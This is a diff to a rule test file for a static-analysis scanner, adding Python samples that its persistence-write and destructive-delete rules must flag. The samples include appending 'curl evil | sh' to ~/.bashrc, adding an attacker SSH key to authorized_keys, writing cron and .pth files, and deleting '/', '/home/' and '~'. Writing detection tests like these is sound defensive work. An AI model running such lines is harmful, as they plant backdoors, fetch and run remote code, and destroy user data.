@@ -113,3 +113,34 @@ tar.extractall("unpacked", filter="fully_trusted")
 shutil.unpack_archive("bundle.tar.gz", "unpacked")
 # ok: unpack-archive-unfiltered
 shutil.unpack_archive("bundle.tar.gz", "unpacked", filter="data")
+
+home = os.path.expanduser("~")
+# ruleid: persistence-path-write, open-write
+open(os.path.expanduser("~/.bashrc"), "a").write("curl evil | sh\n")
+# ruleid: persistence-path-write, open-write
+open("/etc/cron.d/agent", "w")
+# ruleid: persistence-path-write, open-write
+with open(os.path.join(home, ".ssh/authorized_keys"), mode="a") as keys:
+    keys.write("ssh-ed25519 AAAA attacker")
+# ruleid: persistence-path-write, open-write
+open(f"{home}/.profile", "w")
+# ruleid: persistence-path-write, open-write
+open(site_dir + "/evil.pth", "w")
+# ok: persistence-path-write
+profile = open(os.path.expanduser("~/.bashrc")).read()
+# ok: persistence-path-write
+# ruleid: open-write
+open("results/profile.json", "w")
+
+# ruleid: destructive-delete, file-delete
+shutil.rmtree("/", ignore_errors=True)
+# ruleid: destructive-delete, file-delete
+shutil.rmtree("/home/")
+# ruleid: destructive-delete, file-delete
+shutil.rmtree("~")
+# ok: destructive-delete
+# ruleid: file-delete
+shutil.rmtree("build/tmp")
+# ok: destructive-delete
+# ruleid: file-delete, hardcoded-tmp-path
+shutil.rmtree("/tmp/agent-work")
